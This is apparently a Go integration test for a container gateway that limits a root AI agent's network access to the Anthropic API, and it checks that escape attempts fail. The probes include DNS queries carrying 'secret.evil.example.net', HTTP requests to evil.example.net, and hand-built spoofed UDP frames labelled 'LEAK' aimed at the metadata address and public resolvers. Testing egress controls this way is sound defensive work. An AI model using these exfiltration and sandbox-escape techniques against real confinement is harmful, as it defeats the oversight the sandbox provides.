package container

import (
	"bufio"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/vishvananda/netlink"

	"github.com/agent-init/agent-init/internal/netns"
)

// dockerCaps are the capabilities that Docker gives by default, as /proc shows them.
const dockerCaps = "00000000a80425fb"

// testComposeGateway: the agent is root with all that Docker gives, and reaches what the policy allows by the gateway alone.
// It tries addresses, the host and names past its own kernel as well.
func testComposeGateway(t *testing.T, e *engine, n *internet, env []string) {
	p := newProject(t, e, "gateway.yaml", "gateway.yaml", append(env, "AGENT_IMAGE="+e.base, "AUTHORITY="+n.authority, "PARENT="+lonelyLink(t, e.netns)))
	n.forget()
	ask := []string{"agent", "curl", "-sS", "-o", "/dev/null", "-w", "answered with %{http_code}", "https://api.anthropic.com/"}
	if r := p.compose(args([]string{"run", "--rm"}, trusting(n), ask)...); r.code != 0 || !strings.Contains(r.stdout, "answered with ") {
		t.Errorf("exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	if r := p.compose("logs", "--no-log-prefix", "proof"); !strings.Contains(r.stdout, "self-test passed") {
		t.Errorf("the proof says: %s%s", r.stdout, r.stderr)
	}
	if r := p.compose("run", "--rm", "--no-deps", "proof", "--reach", "example.org"); r.code != 70 || !strings.Contains(r.stdout, "FAIL  example.org:443") {
		t.Errorf("the proof of a name that is not allowed: exit %d\n%s%s", r.code, r.stdout, r.stderr)
	}

	host := p.gateway("default")
	outside := p.address("gateway", "default")
	targets := append(denied4(host), target("tcp", host, 443), target("udp", host, 443), target("tcp", "172.30.0.1", 443), target("tcp", outside, 443),
		target("tcp", "9.9.9.9", 53), target("tcp", "172.30.5.2", 22), target("udp", "172.30.5.2", 443), target("tcp", "160.79.104.10", 443))
	report, out := p.probe(n, targets)
	for _, target := range targets {
		if v, tried := report.probes[target]; !tried || v.verdict == "open" {
			t.Errorf("%s is %q", target, v.verdict)
		}
	}
	if report.status["CapEff:"] != dockerCaps || report.status["Uid:"] != "0 0 0 0" {
		t.Errorf("the agent has %q as %q", report.status["CapEff:"], report.status["Uid:"])
	}

	agent := obeying(t, p, p.must("run", "-d", "--no-deps", "-v", buildPoke(t)+":/usr/local/bin/poke:ro", "agent", "sleep", "infinity"))
	if got := agent.pokes(t, "resolve", "api.anthropic.com"); !strings.Contains(got, "172.30.5.2") {
		t.Errorf("the model's name is answered with %s", got)
	}
	for _, server := range []string{"127.0.0.11", "172.30.5.2", "9.9.9.9", host} {
		for _, how := range [][]string{nil, {"-tcp"}} {
			agent.pokes(t, slices.Concat([]string{"dns"}, how, []string{server + ":53", "secret.evil.example.net", "A"})...)
		}
	}
	agent.pokes(t, "http", "-insecure", "-addr", "172.30.5.2:443", "https://evil.example.net/")
	agent.pokes(t, "http", "-addr", "172.30.5.2:80", "http://evil.example.net/")
	if got := agent.pokes(t, slices.Concat([]string{"packet", "eth0"}, agent.frames(t, host, outside))...); !strings.Contains(got, `"ok":true`) {
		t.Fatalf("frames can't be sent: %s", got)
	}
	if got := agent.pokes(t, "http", "-insecure", "https://api.anthropic.com/"); !strings.Contains(got, `"status":404`) {
		t.Errorf("behind these, by the same way: %s", got)
	}
	mustArriveOnlyAt(t, n, "160.79.104.10:443")
	_, queries := n.seen()
	ofClaude := regexp.MustCompile(`^([a-z-]+\.)*(anthropic\.com|claude\.(ai|com))\.$`)
	for _, q := range queries {
		if !ofClaude.MatchString(q) {
			t.Errorf("a question arrived for %s", q)
		}
	}

	p.must("stop", "-t", "1", "gateway")
	n.forget()
	for _, op := range [][]string{{"dns", "127.0.0.11:53", "api.anthropic.com", "A"}, {"tcp", "160.79.104.10:443"}, {"dns", "9.9.9.9:53", "api.anthropic.com", "A"}} {
		if got := agent.pokes(t, op...); strings.Contains(got, `"ok":true`) {
			t.Errorf("without the gateway: %v: %s", op, got)
		}
	}
	mustArriveOnlyAt(t, n)
	if t.Failed() {
		t.Logf("docker compose run: exit %d\n%s%s", out.code, out.stdout, out.stderr)
	}
}

// lonelyLink makes an interface in an engine's namespace that leads to nobody, for a network of the driver macvlan.
func lonelyLink(t *testing.T, engine string) string {
	t.Helper()
	const name = "veth00a6e27" // as the engine names its own
	far, err := netns.New()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { far.Close() })
	up := func(name string) error {
		l, err := netlink.LinkByName(name)
		if err != nil {
			return err
		}
		return netlink.LinkSetUp(l)
	}
	err = inside(engine, func() error {
		attrs := netlink.NewLinkAttrs()
		attrs.Name = name
		if err := netlink.LinkAdd(&netlink.Veth{LinkAttrs: attrs, PeerName: "far", PeerNamespace: netlink.NsFd(far.FD())}); err != nil {
			return err
		}
		return up(name)
	})
	if err == nil {
		err = far.Do(func() error { return up("far") })
	}
	if err != nil {
		t.Fatalf("an interface that leads nowhere: %v", err)
	}
	t.Cleanup(func() {
		_ = inside(engine, func() error {
			l, err := netlink.LinkByName(name)
			if err == nil {
				err = netlink.LinkDel(l)
			}
			return err
		})
	})
	return name
}

// address is that of a service in one of the project's networks.
func (p *project) address(service, network string) string {
	p.t.Helper()
	id := p.must("ps", "-q", service)
	return p.e.must(p.t, "inspect", "--format", `{{(index .NetworkSettings.Networks "`+p.args[2]+"_"+network+`").IPAddress}}`, id)
}

// buildPoke builds the program that tries things in containers.
func buildPoke(t *testing.T) string {
	t.Helper()
	poke := filepath.Join(t.TempDir(), "poke")
	build := exec.Command("go", "build", "-trimpath", "-o", poke, "./internal/lab/cmd/poke") // as the lab does, which may have built it
	build.Dir, build.Env = "../..", append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("build poke: %v: %s", err, out)
	}
	return poke
}

// obeyer is a container of a project with a poke that does one thing after another, as root.
type obeyer struct {
	p   *project
	id  string
	in  io.Writer
	out *bufio.Scanner
}

func obeying(t *testing.T, p *project, id string) *obeyer {
	t.Helper()
	cmd := exec.Command("docker", "exec", "-i", "-u", "0", id, "/usr/local/bin/poke", "obey")
	in, ierr := cmd.StdinPipe()
	out, oerr := cmd.StdoutPipe()
	if err := errors.Join(ierr, oerr, cmd.Start()); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		in.Close()
		cmd.Wait()
	})
	lines := bufio.NewScanner(out)
	lines.Buffer(nil, 1<<20)
	return &obeyer{p, id, in, lines}
}

// pokes is what one operation of poke said.
func (o *obeyer) pokes(t *testing.T, args ...string) string {
	t.Helper()
	line, err := json.Marshal(args)
	if err == nil {
		_, err = o.in.Write(append(line, '\n'))
	}
	if err != nil || !o.out.Scan() {
		t.Fatalf("poke %v: no answer: %v %v", args, err, o.out.Err())
	}
	return o.out.Text()
}

// frames are datagrams to port 443 of addresses that answer on the engine's side, in frames for everybody, for the gateway
// and for the far end of the link, from the agent's own address and from others'.
func (o *obeyer) frames(t *testing.T, also ...string) (out []string) {
	t.Helper()
	var links []struct {
		Address  string
		AddrInfo []struct {
			Family, Local string
		} `json:"addr_info"`
	}
	mac := func(id string, where string) net.HardwareAddr {
		pid := o.p.e.must(t, "inspect", "--format", "{{.State.Pid}}", id)
		r := run("nsenter", "--target", pid, "--net", "ip", "-json", "address")
		if err := json.Unmarshal([]byte(r.stdout), &links); err != nil {
			t.Fatalf("addresses of a container: %v %s", err, r.stderr)
		}
		for _, l := range links {
			for _, a := range l.AddrInfo {
				if hw, err := net.ParseMAC(l.Address); err == nil && netip.MustParsePrefix(where).Contains(netip.MustParseAddr(a.Local)) {
					return hw
				}
			}
		}
		t.Fatalf("no address in %s: %s", where, r.stdout)
		return nil
	}
	mine := mac(o.id, "172.30.5.128/25")
	gateway := mac(o.p.must("ps", "-q", "gateway"), "172.30.5.2/32")
	everybody := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	far := slices.Clone(gateway)
	far[5] ^= 1
	for _, to := range []net.HardwareAddr{everybody, gateway, far} {
		for _, src := range []string{"172.30.5.129", also[0], "172.30.5.2"} {
			for _, dst := range append([]string{"172.30.0.1", "93.184.216.34", "1.1.1.1", "169.254.169.254", "9.9.9.9", "255.255.255.255", "224.0.0.1"}, also...) {
				out = append(out, hex.EncodeToString(datagram(to, mine, netip.MustParseAddr(src), netip.MustParseAddr(dst))))
			}
		}
	}
	return out
}

// datagram is a frame with a UDP datagram to port 443, without a checksum of its own (RFC 768).
func datagram(to, from net.HardwareAddr, src, dst netip.Addr) []byte {
	ip := []byte{0x45, 0, 0, 32, 0, 1, 0, 0, 64, 17, 0, 0}
	ip = append(append(ip, src.AsSlice()...), dst.AsSlice()...)
	var sum uint32
	for i := 0; i < len(ip); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(ip[i:]))
	}
	sum = sum>>16 + sum&0xffff
	binary.BigEndian.PutUint16(ip[10:], ^uint16(sum+sum>>16))
	udp := []byte{0x10, 0, 1, 0xbb, 0, 12, 0, 0, 'L', 'E', 'A', 'K'}
	return slices.Concat(to, from, []byte{8, 0}, ip, udp)
}
